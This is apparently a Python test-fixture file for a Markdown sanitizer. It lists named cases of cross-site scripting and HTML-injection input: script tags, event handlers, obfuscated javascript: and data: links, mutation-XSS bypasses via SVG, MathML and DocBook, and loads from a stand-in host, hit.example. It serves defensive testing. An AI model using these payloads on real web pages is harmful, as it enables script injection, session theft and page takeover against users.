"""Markdown that tries to run a script, to load something or to take over the page.

Each is a document of its own, with a name for what it tries.
"""

RUN = "top.hit=1,document.title='hit',fetch('https://hit.example/')"

CASES = [
    # Scripts
    ("script", "<script>%s</script>" % RUN),
    ("script in a line", "a <script>%s</script> b" % RUN),
    ("script in capitals", "<ScRiPt>%s</sCrIpT>" % RUN),
    ("script from a host", "<script src=https://hit.example/x.js></script>"),
    ("script without a scheme", "<script src=//hit.example/x.js></script>"),
    ("script with a slash for a blank", "<script/x>%s</script>" % RUN),
    ("script that is never closed", "<script>%s" % RUN),
    ("script behind a line feed", "<\nscript>%s</script>" % RUN),
    ("script in a script", "<scr<script>ipt>%s</scr</script>ipt>" % RUN),
    ("script of a module", '<script type="module">%s</script>' % RUN),
    ("script in a table", "| a |\n|---|\n| <script>%s</script> |" % RUN),
    ("script in a heading", "# <script>%s</script>" % RUN),
    ("script in a list", "- <script>%s</script>" % RUN),
    ("script in a quotation", "> <script>%s</script>" % RUN),
    ("script in a note", "a[^1]\n\n[^1]: <script>%s</script>" % RUN),
    ("script in noscript", '<noscript><p title="</noscript><script>%s</script>">' % RUN),
    ("script by references", "&lt;script&gt;%s&lt;/script&gt;" % RUN),
    ("script by numbers", "&#60;script&#62;%s&#60;/script&#62;" % RUN),
    ("data as a script", '<script type="text/plain">a</script><script>%s</script>' % RUN),
    # Handlers
    ("error of an image", '<img src=x onerror="%s">' % RUN),
    ("error without quotes", "<img src=x onerror=top.hit=1>"),
    ("error behind a slash", "<img/src=x/onerror=top.hit=1>"),
    ("error between back quotes", "<img src=`x` onerror=`top.hit=1`>"),
    ("load of an image", '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="%s">' % RUN),
    ("load of a body", '<body onload="%s">' % RUN),
    ("focus", '<input autofocus onfocus="%s">' % RUN),
    ("toggle", '<details open ontoggle="%s"><summary>a</summary></details>' % RUN),
    ("animation", '<style>@keyframes x{}</style><b style="animation:x" onanimationstart="%s">a</b>' % RUN),
    ("marquee", '<marquee onstart="%s">a</marquee>' % RUN),
    ("video", '<video src=x onerror="%s"></video>' % RUN),
    ("source of a sound", '<audio><source src=x onerror="%s"></audio>' % RUN),
    ("handler on a tag that is taken", '<b onclick="%s">a</b>' % RUN),
    ("handler on sub", 'H<sub onmouseover="%s">2</sub>O' % RUN),
    ("handler on br", '<br onclick="%s">' % RUN),
    ("handler on code", '<code autofocus tabindex=0 onfocus="%s">a</code>' % RUN),
    ("scroll snap", '<p onscrollsnapchange="%s">a</p>' % RUN),
    # Addresses
    ("javascript", "[a](javascript:top.hit=1)"),
    ("javascript in capitals", "[a](JaVaScRiPt:top.hit=1)"),
    ("javascript behind a blank", "[a](<  javascript:top.hit=1>)"),
    ("javascript with a tab", "[a](<java\tscript:top.hit=1>)"),
    ("javascript by numbers", "[a](&#106;&#97;&#118;&#97;script:top.hit=1)"),
    ("javascript by hexadecimal numbers", "[a](&#x6A;avascript&#x3A;top.hit=1)"),
    ("javascript by a name", "[a](javascript&colon;top.hit=1)"),
    ("javascript with a line feed by name", "[a](java&NewLine;script:top.hit=1)"),
    ("javascript with a tab by name", "[a](java&Tab;script:top.hit=1)"),
    ("javascript behind a control", "[a](&#1;javascript:top.hit=1)"),
    ("javascript behind a soft hyphen", "[a](java\u00adscript:top.hit=1)"),
    ("javascript in an address of its own", "<javascript:top.hit=1>"),
    ("javascript of a reference", "[a]\n\n[a]: javascript:top.hit=1"),
    ("javascript of an image", "![a](javascript:top.hit=1)"),
    ("javascript of a linked image", "[![a](x.png)](javascript:top.hit=1)"),
    ("javascript in a title", '[a](https://ok.example/ "\\" onmouseover=\\"top.hit=1")'),
    ("javascript in percent signs", "[a](javascript%3Atop.hit=1)"),
    ("javascript in HTML", '<a href="javascript:top.hit=1">a</a>'),
    ("javascript in HTML by numbers", '<a href="&#106avascript:top.hit=1">a</a>'),
    ("vbscript", "[a](vbscript:MsgBox)"),
    ("data with a page", "[a](data:text/html,<script>top.hit=1</script>)"),
    ("data in base 64", "[a](data:text/html;base64,PHNjcmlwdD50b3AuaGl0PTE8L3NjcmlwdD4=)"),
    ("data with a drawing", '![a](data:image/svg+xml,<svg/onload=top.hit=1>)'),
    ("data by numbers", "[a](&#100;ata:text/html,x)"),
    ("attribute by braces", "[a](https://ok.example/){onclick=\"top.hit=1\"}"),
    ("class by braces", '[a]{.x onmouseover="top.hit=1" style="background:url(https://hit.example/)"}'),
    ("image by braces", '![a](x.png){onerror="top.hit=1" srcset="https://hit.example/ 2x"}'),
    # Frames, forms, heads
    ("frame", '<iframe src="https://hit.example/"></iframe>'),
    ("frame with a page", "<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>"),
    ("frame with javascript", '<iframe src="javascript:parent.hit=1"></iframe>'),
    ("object", '<object data="https://hit.example/x.swf"></object>'),
    ("embed", '<embed src="https://hit.example/x.swf">'),
    ("form", '<form action="https://hit.example/"><button>a</button></form>'),
    ("button with an action", '<button formaction="javascript:top.hit=1">a</button>'),
    ("input that is an image", '<input type="image" src="https://hit.example/x.png">'),
    ("base", '<base href="https://hit.example/">'),
    ("refresh", '<meta http-equiv="refresh" content="0;url=https://hit.example/">'),
    ("policy", '<meta http-equiv="Content-Security-Policy" content="default-src *">'),
    ("sheet", '<link rel="stylesheet" href="https://hit.example/x.css">'),
    ("import", '<link rel="import" href="https://hit.example/">'),
    ("prefetch", '<link rel="dns-prefetch" href="//hit.example">'),
    ("style with an address", "<style>body{background:url(https://hit.example/)}</style>"),
    ("style with an import", "<style>@import 'https://hit.example/x.css';</style>"),
    ("style with an expression", '<p style="width:expression(top.hit=1)">a</p>'),
    ("style of an element", '<p style="background:url(https://hit.example/)">a</p>'),
    ("style over the page", '<div style="position:fixed;inset:0">a</div>'),
    ("template", "<template><script>top.hit=1</script></template>"),
    ("shadow", '<div><template shadowrootmode="open"><img src=x onerror=top.hit=1></template></div>'),
    ("portal", '<portal src="https://hit.example/"></portal>'),
    ("applet", '<applet code="x" archive="https://hit.example/x.jar"></applet>'),
    # Comments, instructions, mutations
    ("comment that is never closed", "<!-- a\n\n<script>top.hit=1</script>"),
    ("comment that closes at once", "<!--><script>top.hit=1</script>-->"),
    ("comment that closes by a bang", "<!-- --!><script>top.hit=1</script> -->"),
    ("comment in a line", "a <!-- --><img src=x onerror=top.hit=1> b"),
    ("condition", "<!--[if gte IE 4]><script>top.hit=1</script><![endif]-->"),
    ("instruction", "<?xml-stylesheet href=\"javascript:top.hit=1\"?>"),
    ("marked section", "<![CDATA[<script>top.hit=1</script>]]>"),
    ("declaration", "<!DOCTYPE html [<!ENTITY x SYSTEM 'https://hit.example/'>]>&x;"),
    ("end of the body", "</p></main></body></html><script>top.hit=1</script>"),
    ("text area", "<textarea><img title=\"</textarea><img src=x onerror=top.hit=1>\"></textarea>"),
    ("title", "<title></title><img src=x onerror=top.hit=1>"),
    ("formula that ends", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=top.hit=1&gt;\">"),
    ("drawing that ends", "<svg></p><style><a id=\"</style><img src=x onerror=top.hit=1>\"></style></svg>"),
    ("foreign object", "<svg><foreignObject><iframe src=https://hit.example/></iframe></foreignObject></svg>"),
    ("drawing with a handler", "<svg onload=top.hit=1></svg>"),
    ("drawing with a script", "<svg><script>top.hit=1</script></svg>"),
    ("animated link", "<svg><a><animate attributeName=href values=javascript:top.hit=1 /><text y=20>a</text></a></svg>"),
    ("formula with a link", '<math href="javascript:top.hit=1">a</math>'),
    ("names in clobbered forms", "<form id=x><input name=attributes></form><img name=getElementById>"),
    ("list of a select", "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=top.hit=1>\">"),
    ("plain text", "<plaintext><script>top.hit=1"),
    ("no breaks", "<xmp><script>top.hit=1</script></xmp><listing>&lt;img src=x onerror=top.hit=1&gt;</listing>"),
    ("null", "<scr\0ipt>top.hit=1</script><img src=x on\0error=top.hit=1>"),
    ("code that looks like one", "```html\n<script>top.hit=1</script>\n```\n\n`<img src=x onerror=top.hit=1>`"),
    ("code with a language", "```\"><script>top.hit=1</script>\na\n```"),
    ("fence with attributes", "``` {.x onclick=\"top.hit=1\"}\na\n```"),
    ("id of a heading", "# a {#x\"><script>top.hit=1</script>}"),
    ("title of the document", "---\ntitle: \"</title><script>top.hit=1</script>\"\n---\n\na"),
    ("description", "---\ntitle: t\ndescription: \"\\\"><script>top.hit=1</script>\"\nlang: \"en\\\" onclick=\\\"top.hit=1\"\n---\n\na"),
    ("link in the front matter", "---\ntitle: t\nauthor:\n  - {name: A, url: \"javascript:top.hit=1\"}\n---\n\na"),
    ("formula", "$\\href{javascript:top.hit=1}{x}$ $\\text{<img src=x onerror=top.hit=1>}$"),
    # DocBook inside
    ("DocBook: a drawing with a handler", "```{=docbook}\n<mediaobject><imageobject><imagedata><svg:svg onload=\"top.hit=1\"><svg:script>top.hit=1</svg:script><svg:rect onclick=\"top.hit=1\"/></svg:svg></imagedata></imageobject></mediaobject>\n```"),
    ("DocBook: a drawing with a page", "```{=docbook}\n<mediaobject><imageobject><imagedata><svg:svg><svg:foreignObject><svg:iframe src=\"https://hit.example/\"/></svg:foreignObject><svg:title><svg:img src=\"x\" onerror=\"top.hit=1\"/></svg:title></svg:svg></imagedata></imageobject></mediaobject>\n```"),
    ("DocBook: a drawing that loads", "```{=docbook}\n<mediaobject><imageobject><imagedata><svg:svg><svg:image href=\"https://hit.example/x.png\"/><svg:use xlink:href=\"https://hit.example/x.svg#a\"/><svg:style>@import 'https://hit.example/';</svg:style><svg:rect style=\"fill:url(https://hit.example/#a)\"/></svg:svg></imagedata></imageobject></mediaobject>\n```"),
    ("DocBook: a drawing with a link", "```{=docbook}\n<mediaobject><imageobject><imagedata><svg:svg><svg:a xlink:href=\"javascript:top.hit=1\"><svg:set attributeName=\"href\" to=\"javascript:top.hit=1\"/><svg:text y=\"9\">a</svg:text></svg:a></svg:svg></imagedata></imageobject></mediaobject>\n```"),
    ("DocBook: a formula that ends", "```{=docbook}\n<informalequation><mml:math><mml:meta http-equiv=\"refresh\" content=\"0;url=https://hit.example/\"/><mml:mtext><mml:form action=\"https://hit.example/\"/><mml:img src=\"x\" onerror=\"top.hit=1\"/><mml:script>top.hit=1</mml:script></mml:mtext></mml:math></informalequation>\n```"),
    ("DocBook: a formula with a link", "```{=docbook}\n<informalequation><mml:math><mml:mrow href=\"javascript:top.hit=1\" onclick=\"top.hit=1\"><mml:mi>x</mml:mi></mml:mrow></mml:math></informalequation>\n```"),
    ("DocBook: an element of HTML", "```{=docbook}\n<para><h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">top.hit=1</h:script></para>\n```"),
    ("DocBook: links", "```{=docbook}\n<para><link xlink:href=\" java&#x9;script:top.hit=1\">a</link><ulink url=\"javascript:top.hit=1\">b</ulink></para>\n```"),
    ("DocBook: an image", "```{=docbook}\n<mediaobject><imageobject><imagedata fileref=\"JavaScript:top.hit=1\"/></imageobject></mediaobject>\n```"),
]

# Where there is nothing to tell: what is written is text for a reader, or is
# no link at all; comments say nothing.
QUIET = set("""
javascript behind a control
script by references
script by numbers
error without quotes
error behind a slash
error between back quotes
javascript behind a soft hyphen
javascript in a title
javascript in percent signs
comment that closes at once
comment that closes by a bang
comment in a line
condition
code that looks like one
code with a language
title of the document
description
DocBook: an element of HTML""".strip().split("\n"))
